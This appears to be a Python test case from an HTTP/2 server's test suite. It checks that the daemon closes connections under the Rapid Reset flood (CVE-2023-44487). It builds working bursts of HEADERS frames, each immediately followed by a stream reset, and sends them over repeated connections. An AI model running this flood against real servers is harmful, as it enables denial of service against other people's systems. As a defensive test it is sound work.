"""Streams that are reset as soon as they are open (CVE-2023-44487): the daemon ends the connection."""

from cases import close_hard, rounds, send_until_ended, surely_connect
from client import HEALTH
from hpack import call_headers
from http2 import END_HEADERS, HEADERS, PREFACE, RESET, SETTINGS, frame

SLICE = True
MOST_STREAMS = 200_000
TOGETHER = 20
LEAST = {"resets": 1000, "connections ended": 1}


def streams():
    yield PREFACE + frame(SETTINGS, 0, 0)
    headers = call_headers(HEALTH)
    for first in range(0, MOST_STREAMS, TOGETHER):
        yield b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, headers) + frame(RESET, 0, 2 * i + 1, b"\0\0\0\x08")
                       for i in range(first, first + TOGETHER))


def attack(target, until):
    counts = {"resets": 0, "connections ended": 0}
    for _ in rounds(until):
        one = surely_connect(target)
        sent, ended = send_until_ended(one, streams())
        assert ended, f"the daemon took {MOST_STREAMS} resets and has not ended the connection"
        counts["resets"] += sent * TOGETHER
        counts["connections ended"] += 1
        close_hard([one])
    return counts
